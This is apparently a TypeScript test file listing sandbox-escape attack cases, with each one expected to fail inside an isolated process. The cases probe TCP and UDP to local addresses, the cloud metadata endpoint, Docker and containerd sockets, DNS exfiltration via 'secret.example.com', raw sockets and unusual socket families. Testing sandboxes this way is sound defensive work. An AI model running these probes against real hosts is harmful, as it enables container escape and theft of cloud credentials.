import type { Attack, AttackCase } from '../attack-case.ts';
import { boxed } from '../boxed.ts';

const connects = (targets: (attack: Attack) => readonly object[]) => (attack: Attack) =>
  `import { connect } from 'node:net';
const open = (options) => new Promise((resolve, reject) => { const socket = connect(options, () => resolve('connected')); socket.on('error', reject); setTimeout(() => reject(new Error('late')), 1000); });
await Promise.all(${JSON.stringify(targets(attack))}.map((options) => fails('connect ' + JSON.stringify(options), () => open(options))));`;

export default [
  boxed({
    row: 11,
    name: 'TCP to every address of this machine',
    node: connects(({ canaries }) => canaries.addresses.map((host) => ({ host, port: canaries.tcpPort }))),
  }),
  boxed({
    row: 11,
    name: 'TCP to services by name, to metadata and to the internet',
    node: connects(() => [
      ...['postgres', 'redis', 'localhost', 'host.docker.internal'].flatMap((host) =>
        [5432, 6379].map((port) => ({ host, port })),
      ),
      ...['169.254.169.254', '192.0.2.1', '198.51.100.1', '2001:db8::1'].map((host) => ({ host, port: 80 })),
    ]),
  }),
  boxed({
    row: 11,
    name: 'UDP to every address of this machine',
    node: ({ canaries }) => `import { createSocket } from 'node:dgram';
for (const host of ${JSON.stringify(canaries.addresses)}) { tried++; await new Promise((resolve) => { const socket = createSocket(host.includes(':') ? 'udp6' : 'udp4'); socket.on('error', resolve); socket.send('stolen', ${canaries.udpPort}, host, () => socket.close(resolve)); }); }`,
  }),
  boxed({
    row: 11,
    name: 'names as a way out',
    node: `import { lookup, Resolver } from 'node:dns/promises';
await fails('lookup', () => lookup('secret.example.com'));
for (const server of ['127.0.0.1', '127.0.0.53', '192.0.2.53']) { const resolver = new Resolver({ timeout: 300, tries: 1 }); resolver.setServers([server]); await fails('DNS at ' + server, () => resolver.resolve4('secret.example.com')); }`,
  }),
  boxed({
    row: 11,
    name: 'raw sockets and ping',
    sh: `fails "raw socket" perl -MSocket -e 'socket(my $s, PF_INET, SOCK_RAW, 1) or exit 1'; fails "packet socket" perl -e 'socket(my $s, 17, 3, 768) or exit 1'; fails "netlink link up" ip link set lo down; fails ping ping -c 1 -W 1 192.0.2.1`,
  }),
  boxed({
    row: 11,
    name: 'sockets in the file system and abstract ones',
    node: connects(({ canaries }) => [
      { path: canaries.socketPath },
      { path: `\0${canaries.abstractName}` },
      ...[
        '/var/run/docker.sock',
        '/run/docker.sock',
        '/run/dbus/system_bus_socket',
        '/run/systemd/private',
        '/run/containerd/containerd.sock',
      ].map((path) => ({ path })),
    ]),
  }),
  boxed({
    row: 11,
    name: 'a socket that it makes for a process outside',
    node: `import { createServer } from 'node:net';
const server = createServer().listen('\\0attack-inside'); await new Promise((resolve) => server.on('listening', resolve).on('error', resolve)); tried++;`,
  }),
  boxed({
    row: 11,
    name: 'kinds of socket that no network namespace holds: to a hypervisor, to the kernel',
    sh: `for family in 17 21 29 30 31 38 39 40 41 44 45; do fails "family $family" perl -e 'socket(my $s, $ARGV[0], 1, 0) or socket($s, $ARGV[0], 2, 0) or socket($s, $ARGV[0], 3, 0) or socket($s, $ARGV[0], 5, 0) or exit 1' $family; done`,
  }),
] satisfies AttackCase[];
